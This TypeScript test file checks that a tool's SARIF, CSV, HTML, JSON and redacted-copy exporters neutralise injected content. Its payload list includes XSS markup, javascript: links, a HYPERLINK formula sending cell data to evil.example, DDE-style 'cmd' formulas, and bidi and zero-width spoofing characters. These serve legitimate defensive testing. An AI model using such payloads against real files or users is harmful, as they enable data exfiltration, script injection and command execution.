/** Whatever stands in a document, its name or a note: an export is only ever read, never run. */

import { readFileSync } from 'node:fs'
import { type DefaultTreeAdapterTypes, defaultTreeAdapter, parse } from 'parse5'
import { Compile } from 'typebox/schema'
import { describe, expect, it } from 'vitest'
import { PAYLOAD_FIELDS, sampleDocument, sampleReport } from './__fixtures__/sample-document.ts'
import { redactedCopy } from './redacted-copy.ts'
import { toCsv } from './report-csv.ts'
import { toHtml } from './report-html.ts'
import { toJson } from './report-json.ts'
import { toSarif } from './report-sarif.ts'

const sarif = Compile(
  JSON.parse(readFileSync(`${import.meta.dirname}/__fixtures__/sarif-2.1.0.schema.json`, 'utf8')),
)

const PAYLOADS: readonly (readonly [name: string, payload: string])[] = [
  ['markup', '<img src=x onerror=alert(1)><script>alert(1)</script>'],
  ['the end of what holds it', '"></td></table></style></title>--><!-- \' ` ]]>'],
  ['a link', '[x](javascript:alert(1)) <https://evil.example/> ![i](//evil.example/p)'],
  ['a formula', '=HYPERLINK("https://evil.example/?"&A1,"x")'],
  ['a formula behind space', " \t\r\n+1+1;=cmd|' /C calc'!A0"],
  ['a command', "@SUM(1+1)*cmd|'/C calc'!A0"],
  ['a wide formula', '＝1＋1'],
  ['separators', '",""\r\n"=1+1";"2",\n'],
  ['controls', 'a\0b\x07c\x1b[31md\x7f\u0085e'],
  ['turned text', '\u202egnp.exe\u2066\u2069\u200f'],
  ['what nobody sees', 'a\u200b\ufeff\u{e0069}\u{e0067}\u{e006e}b'],
  ['a place to fill', '{0} \\{1} [x](0)'],
  ['half a pair', '\ud83d and \ude00'],
  ['10,000 characters without a break', 'x'.repeat(10_000)],
]

const UNSEEN =
  /[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u

describe.each(PAYLOADS)('%s', (_, payload) => {
  describe.each(PAYLOAD_FIELDS)('as %s', (field) => {
    const report = sampleReport({ [field]: payload })

    it('is valid SARIF', () => {
      const file = toSarif([report])
      const log = JSON.parse(file)
      expect(sarif.Errors(log)).toEqual([true, []])
      expect(file).not.toMatch(UNSEEN)
      // A message's links are written in brackets that are not escaped (§3.11.6).
      for (const { message } of log.runs[0].results) {
        expect(message.text.replace(/\\[\\[\]]/g, '')).not.toMatch(/[[\]]/)
      }
    })

    it('is a table without formulas', () => {
      const file = toCsv([report])
      const rows = parseCsv(file)
      expect(rows).toHaveLength(3)
      for (const row of rows) {
        expect(row).toHaveLength(rows[0]?.length ?? 0)
        for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/)
      }
      expect(file).not.toMatch(UNSEEN)
    })

    it('is a page of text', () => {
      const file = toHtml([report])
      expect(file).not.toMatch(UNSEEN)
      expect(tagsOf(file)).toEqual(tagsOf(toHtml([sampleReport()])))
    })

    it('is JSON of the interface', () => {
      expect(JSON.parse(toJson([report]))).toEqual(report.document.job)
    })

    it.each(['text', 'markdown', 'webpage'] as const)('is a redacted copy as %s', (format) => {
      const document = sampleDocument({ [field]: payload })
      const file = redactedCopy(document, { format }).file ?? ''
      expect(file).not.toMatch(UNSEEN)
      expect(file.isWellFormed()).toBe(true)
      if (format === 'markdown') {
        expect(file.replace(/\\[!-/:-@[-`{-~]/g, '')).not.toMatch(/[<>[\]()`*_!~|&\\]/)
      }
      if (format === 'webpage') {
        const plain = redactedCopy(sampleDocument(), { format }).file ?? ''
        expect(tagsOf(file)).toEqual(tagsOf(plain))
      }
      if (field === 'evidence' && payload.trim().length > 2)
        expect(file).not.toContain(payload.trim())
    })
  })
})

/** Every kind of element of a page, with its attributes, once. */
function tagsOf(html: string): readonly string[] {
  const tags = new Set<string>()
  const walk = (node: DefaultTreeAdapterTypes.ParentNode) => {
    for (const child of defaultTreeAdapter.getChildNodes(node)) {
      if (!defaultTreeAdapter.isElementNode(child)) continue
      const attributes = child.attrs.map(({ name, value }) =>
        name === 'datetime' ? name : `${name}=${value}`,
      )
      tags.add([child.tagName, ...attributes].join(' '))
      walk(child)
    }
  }
  walk(parse(html))
  return [...tags].sort()
}

/** RFC 4180 with every cell quoted; anything else is refused. */
function parseCsv(file: string): string[][] {
  const CELL = /"((?:[^"]|"")*)"(,|\r\n)/y
  const rows: string[][] = [[]]
  CELL.lastIndex = 1
  while (CELL.lastIndex < file.length) {
    const match = CELL.exec(file)
    if (match === null) throw new Error('this is no table')
    rows.at(-1)?.push((match[1] ?? '').replaceAll('""', '"'))
    if (match[2] === '\r\n' && CELL.lastIndex < file.length) rows.push([])
  }
  return rows
}
